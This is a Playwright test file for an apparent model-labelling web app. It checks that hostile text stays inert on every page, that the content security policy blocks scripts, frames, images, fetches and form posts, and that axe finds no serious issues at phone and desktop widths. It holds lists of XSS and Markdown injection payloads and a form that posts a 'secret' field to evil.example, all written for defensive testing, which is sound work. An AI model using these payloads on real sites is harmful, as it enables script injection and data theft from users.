"""The web app in Chromium with texts that would like to be scripts; axe; the widths of phones."""

import json

import pytest

from gptlab.data.records import Candidate, CandidateSet, Message, Prompt
from gptlab.people.backend import Model, Piece, Usage
from gptlab.people.store.campaigns import Settings
from gptlab.people.store.judgements import Flag
from tests import pages

# Each would call alert, or leave an element behind, were it taken for HTML anywhere.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "<svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;b&gt;",
)
# Of what a model may write, besides: Markdown whose links and images are hostile.
MARKDOWN = (
    "[click](javascript:alert(1)) [click](JaVaScRiPt&#58;alert(1)) <javascript:alert(1)>\n\n"
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](//evil.example)\n\n"
    "![x](https://evil.example/a.png) [![x](x)](vbscript:alert(1))\n\n"
    "[a]: javascript:alert(1)\n\n[a] [ref](/signout)\n\n"
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```\n\n"
    "| a<script>alert(1)</script> | b |\n|:-:|--:|\n| `<b>` | <b onmouseover=alert(1)>x</b> |\n\n"
    '<a href="https://evil.example" onclick="alert(1)">x</a> [t](https://ok.example "\\"onx=1")\n'
)
EVIL = "\n\n".join((*HOSTILE, MARKDOWN))


class Scripted:
    """A backend that says the worst, a few characters at a time. Not even a bad model would."""

    def models(self):
        return [Model('m"><script>alert(1)</script>', "policy", 0, None)]

    async def reply(self, ask, deadline=None):
        for begin in range(0, len(EVIL), 7):
            yield Piece(EVIL[begin : begin + 7])
        yield Piece("", finish_reason="stop", usage=Usage(1, 1), policy="policy", notice=EVIL[:60])

    async def close(self, drain_seconds):
        pass


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    directory = tmp_path_factory.mktemp("pages")
    with pages.served(directory, Scripted(), artifacts=str(directory)) as made:
        yield made


@pytest.fixture(scope="module")
def browser():
    with pages.chromium() as running:
        yield running


@pytest.fixture(scope="module")
def campaigns(site):
    """A ranking and a demonstration campaign of hostile texts, one judgement to be reviewed."""
    store = site.store
    settings = Settings(instructions=EVIL)
    ranking = store.campaigns.create(f"rank {HOSTILE[1]}", "ranking", settings, "system")
    writing = store.campaigns.create(f"write {HOSTILE[0]}", "demonstration", settings, "system")
    for number in range(2):
        prompt = Prompt(f"p{number}", (Message("user", EVIL, EVIL),), "test")
        replies = tuple(Candidate(f"{number}{i}", f"{i} {EVIL}", "p", True) for i in range(3))
        store.campaigns.queue(ranking.id, [CandidateSet(f"s{number}", prompt, replies)], "system")
    store.campaigns.queue_topics(writing.id, [EVIL], "system")
    labeller = store.accounts.add_person(HOSTILE[0], "labeller", "system")
    lease = store.work.lease(ranking.id, labeller.id)
    flags = [Flag(1, "harmful", 3)]
    store.work.judge(lease.token, labeller.id, [1, 2, 3], flags=flags, note=EVIL)
    store.accounts.create_api_key(labeller.id, HOSTILE[1], "system")
    (task,) = store.campaigns.tasks(ranking.id, "review")
    return ranking.id, writing.id, task.id, labeller.id


def paths(campaigns):
    ranking, writing, task, labeller = campaigns
    return (
        "/chat", "/you", "/label", f"/label/{ranking}", f"/label/{ranking}/instructions",
        f"/label/{writing}", "/review", f"/review/{ranking}/{task}", "/campaigns",
        f"/campaigns/{ranking}", f"/campaigns/{writing}", "/people",
        f"/people/{labeller}/exports", "/keys", "/audit", "/nothing",
    )  # fmt: skip


def settle(page):
    page.wait_for_load_state("networkidle")


def check_nothing_ran(page):
    """Nothing that the texts would have made is there; what may be is the page's own."""
    found = page.evaluate("""() => ({
        scripts: [...document.scripts].filter((s) => !s.src.startsWith(location.origin)).length,
        handlers: [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes])
            .filter((a) => /^on/i.test(a.name) || a.name === 'style').map((a) => a.name),
        frames: document.querySelectorAll('iframe, object, embed, base').length,
        images: [...document.images].filter((i) => !i.src.startsWith(location.origin)).length,
        links: [...document.querySelectorAll('.prose a')].map((a) => [a.href, a.rel, a.target]),
    })""")
    # The composer's height is set by the page's own script.
    assert found["handlers"] in ([], ["style"]), found
    assert (found["scripts"], found["frames"], found["images"]) == (0, 0, 0)
    for href, rel, target in found["links"]:
        assert href.startswith(("https://", "http://")) and "alert" not in href
        assert "noopener" in rel and target == "_blank"


def test_hostile_texts_stay_texts_on_every_page(site, browser, campaigns):
    with pages.visit(browser, site, role="admin") as (page, _):
        for path in paths(campaigns)[:-1]:
            assert page.goto(path).status == 200
            settle(page)
            check_nothing_ran(page)
        assert HOSTILE[0] in page.text_content("body")  # the audit's names are there, as texts


def test_a_hostile_chat_stays_text_while_it_is_streamed_and_after(site, browser):
    with pages.visit(browser, site) as (page, person):
        site.store.accounts.consent(person.id, "training", True, EVIL[:90])
        page.goto("/chat")
        page.click("#system-toggle")
        page.fill("#system", EVIL)
        page.click("#context-toggle")
        page.fill("#context", EVIL)
        page.fill("#message", EVIL)
        page.keyboard.press("Enter")
        for _ in range(3):
            check_nothing_ran(page)
            page.wait_for_timeout(60)
        page.locator(".turn.assistant .actions").wait_for()
        check_nothing_ran(page)
        assert EVIL.strip() in page.locator(".bubble").text_content()
        assert HOSTILE[0] in page.locator(".turn.assistant .prose").text_content()
        page.click("[aria-label='Bad reply']")
        page.fill("[name=note]", EVIL)
        page.click(".reasons .primary")
        page.click("text=Show me another")
        page.click("text=Neither")
        page.click("text=Write a better reply")
        page.fill(".editor textarea", EVIL)
        page.click(".editor .primary")
        page.locator(".badge:has-text('your version')").wait_for()
        page.click("[aria-label^='Rename']")
        page.fill("#ask [name=title]", HOSTILE[1])
        page.keyboard.press("Enter")
        page.locator("#ask").wait_for(state="hidden")
        page.reload()
        page.locator(".badge:has-text('your version')").wait_for()
        check_nothing_ran(page)
        assert page.title().startswith(HOSTILE[1])


def test_the_policy_holds_where_escaping_would_fail(site, browser):
    """A page of our own origin into which a text broke: nothing of it runs, or calls elsewhere."""
    context = browser.new_context(base_url=site.url)
    violations = pages.watch_policy(context)
    page, ran = context.new_page(), []
    page.on("dialog", lambda dialog: (ran.append(1), dialog.dismiss()))
    page.goto("/")
    for html in (
        "<img src=x onerror=alert(1)>",
        "<img src=https://evil.example/a.png>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<iframe src=https://evil.example></iframe>",
        "<p style='position: fixed'>",
        "<form id=out action=https://evil.example><input name=secret></form>",
    ):
        page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", html)
    page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'alert(1)';
        document.body.append(script);
        fetch('https://evil.example/').catch(() => null);
        document.getElementById('out').submit();
        location.href = 'javascript:alert(1)';
    }""")
    page.wait_for_timeout(300)
    assert ran == [] and page.url == f"{site.url}/"
    assert {violation.split()[0] for violation in violations} >= {
        "script-src-attr", "script-src-elem", "img-src", "frame-src", "style-src-attr",
        "connect-src", "form-action",
    }  # fmt: skip
    context.close()


WIDTHS = {"desktop": pages.WIDE, "phone": {"width": 360, "height": 740}}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("width", "theme"),
    [
        ("phone", "dark"), ("phone", "light"), ("desktop", "dark"), ("desktop", "light"),
    ],
)  # fmt: skip
def test_axe_finds_nothing_serious_and_no_page_is_wider_than_the_screen(
    site, browser, campaigns, width, theme
):
    findings, options = {}, {"color_scheme": theme, "consent": False}
    with pages.visit(browser, site, "admin", WIDTHS[width], **options) as (page, _):

        def look(name):
            findings[name] = pages.serious_findings(page)
            wide = page.evaluate("document.documentElement.scrollWidth")
            if wide > WIDTHS[width]["width"]:
                findings[name].append(f"{wide} pixels wide")

        for path in ("/", *paths(campaigns)[:-1]):
            page.goto(path)
            settle(page)
            look(path)
            if path == "/chat":
                look_at_the_chat(page, look)
            elif page.locator(".board").count():
                page.click("#help-button")
                look("help")
                page.keyboard.press("Escape")
                page.click("button:text-is('Skip')")
                look("skip")
                page.keyboard.press("Escape")
    assert json.dumps({name: one for name, one in findings.items() if one}, indent=1) == "{}"


def look_at_the_chat(page, look):
    """The states of the chat, with everything open that can be."""
    page.fill("#message", "hello")
    page.keyboard.press("Enter")
    page.locator(".turn.assistant .actions").wait_for()
    page.click("[aria-label='Bad reply']")
    page.check("[value=harmful]")
    page.click("text=Write a better reply")
    page.click("[aria-label='Edit and send again']")
    look("feedback")
    page.click(".turn.user button:text-is('Cancel')")
    page.click("text=Show me another")
    page.locator("text=Second is better").wait_for()
    look("side by side")
    page.click("text=Neither")
    if page.locator("#sidebar-toggle").is_visible():
        page.click("#sidebar-toggle")
        page.wait_for_timeout(250)
        look("conversations")
